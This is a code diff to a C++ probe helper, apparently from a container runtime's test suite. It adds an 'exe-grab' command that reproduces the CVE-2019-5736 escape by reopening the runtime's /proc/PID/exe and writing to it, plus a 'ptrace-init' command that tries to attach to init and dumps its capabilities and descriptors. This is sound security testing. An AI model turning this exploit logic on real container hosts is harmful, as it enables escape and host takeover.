@@ -7,6 +7,8 @@
 #include <string.h>
 #include <sched.h>
 #include <sys/ioctl.h>
+#include <sys/ptrace.h>
+#include <poll.h>
 #include <sys/stat.h>
 #include <sys/syscall.h>
 #include <sys/types.h>
@@ -17,6 +19,7 @@
 #include <cstdio>
 #include <dirent.h>
 #include <string>
+#include <vector>
 
 namespace {
 
@@ -240,6 +243,99 @@ int exe_attack() {
     return 0;
 }
 
+int status_line(const char* key, const char* pid = "self", const char* prefix = "") {
+    FILE* f = fopen((std::string("/proc/") + pid + "/status").c_str(), "re");
+    if (!f) return 2;
+    char line[256];
+    size_t kl = strlen(key);
+    while (fgets(line, sizeof line, f))
+        if (strncmp(line, key, kl) == 0 && line[kl] == ':') {
+            char* v = line + kl + 1;
+            while (*v == ' ' || *v == '\t') ++v;
+            printf("%s%s=%s", prefix, key, v);
+        }
+    fclose(f);
+    return 0;
+}
+
+// The CVE-2019-5736 attack on whatever kakuri runs inside: the FIFO is a file the
+// next kakuri started inside will read (its config); once kakuri blocks on it, every
+// process but us and init is a kakuri: hold each one's /proc/PID/exe, let kakuri go,
+// wait until it is gone (no longer busy) and try to write what it ran.
+int exe_grab(const char* fifo) {
+    alarm(60);  // a safety net only: the test fails on a missing "grabbed" line
+    int w = open(fifo, O_WRONLY | O_CLOEXEC);  // blocks until kakuri opens it
+    if (w < 0) {
+        printf("fifo=%s\n", errname(errno));
+        return 1;
+    }
+    struct Held { int pid; int exe; int pidfd; };
+    std::vector<Held> held;
+    if (DIR* d = opendir("/proc")) {
+        while (dirent* e = readdir(d)) {
+            int pid = atoi(e->d_name);
+            if (pid <= 1 || pid == getpid()) continue;
+            std::string p = std::string("/proc/") + e->d_name + "/exe";
+            int exe = open(p.c_str(), O_PATH | O_CLOEXEC);
+            if (exe < 0) continue;
+            held.push_back({pid, exe, static_cast<int>(syscall(SYS_pidfd_open, pid, 0))});
+        }
+        closedir(d);
+    }
+    close(w);  // kakuri reads an empty config and goes on
+    printf("grabbed=%zu\n", held.size());
+    for (const auto& h : held) {
+        struct pollfd pfd = {h.pidfd, POLLIN, 0};
+        if (h.pidfd >= 0) poll(&pfd, 1, -1);
+        struct stat st;
+        fstat(h.exe, &st);
+        printf("exe_ino=%lu\n", static_cast<unsigned long>(st.st_ino));
+        std::string again = "/proc/self/fd/" + std::to_string(h.exe);
+        int fd = open(again.c_str(), O_WRONLY | O_CLOEXEC);
+        if (fd < 0) {
+            printf("reopen=%s\n", errname(errno));
+            continue;
+        }
+        ssize_t n = write(fd, "#!/bin/sh\n", 10);
+        printf("reopen=0\nwrite=%s\n", errname(n < 0 ? errno : 0));
+        close(fd);
+    }
+    fflush(stdout);
+    return 0;
+}
+
+// Try to trace init: the confinement it has is all a tracer could reach through it.
+int ptrace_init() {
+    long r = ptrace(PTRACE_ATTACH, 1, nullptr, nullptr);
+    printf("attach=%s\n", errname(r < 0 ? errno : 0));
+    if (r == 0) {
+        int status;
+        waitpid(1, &status, __WALL);
+        ptrace(PTRACE_DETACH, 1, nullptr, nullptr);
+    }
+    for (const char* k : {"CapPrm", "CapEff", "CapBnd", "NoNewPrivs", "Seccomp"}) {
+        status_line(k, "1", "init_");
+        status_line(k, "self", "self_");
+    }
+    struct stat pts;
+    if (stat("/dev/pts/ptmx", &pts) == 0) printf("pts_dev=%lu\n", static_cast<unsigned long>(pts.st_dev));
+    if (DIR* d = opendir("/proc/1/fd")) {
+        while (dirent* e = readdir(d)) {
+            if (e->d_name[0] == '.') continue;
+            char buf[512];
+            ssize_t n = readlinkat(dirfd(d), e->d_name, buf, sizeof buf - 1);
+            buf[n > 0 ? n : 0] = 0;
+            struct stat st;
+            unsigned long dev = fstatat(dirfd(d), e->d_name, &st, 0) == 0 ? st.st_dev : 0;
+            printf("init_fd_%s=%s dev=%lu\n", e->d_name, buf, dev);
+        }
+        closedir(d);
+    } else {
+        printf("init_fds=%s\n", errname(errno));
+    }
+    return 0;
+}
+
 volatile sig_atomic_t got = 0;
 void on_signal(int s) { got = s; }
 
@@ -259,20 +355,6 @@ int wait_signal(bool handle) {
     return 42;
 }
 
-int status_line(const char* key) {
-    FILE* f = fopen("/proc/self/status", "re");
-    if (!f) return 2;
-    char line[256];
-    size_t kl = strlen(key);
-    while (fgets(line, sizeof line, f))
-        if (strncmp(line, key, kl) == 0 && line[kl] == ':') {
-            char* v = line + kl + 1;
-            while (*v == ' ' || *v == '\t') ++v;
-            printf("%s=%s", key, v);
-        }
-    fclose(f);
-    return 0;
-}
 
 }  // namespace
 
@@ -308,6 +390,8 @@ int main(int argc, char** argv) {
     if (cmd == "syscalls") return syscalls();
     if (cmd == "tiocsti") return tiocsti();
     if (cmd == "exe-attack") return exe_attack();
+    if (cmd == "exe-grab") return exe_grab(arg);
+    if (cmd == "ptrace-init") return ptrace_init();
     fprintf(stderr, "probe: unknown command '%s'\n", cmd.c_str());
     return 2;
 }
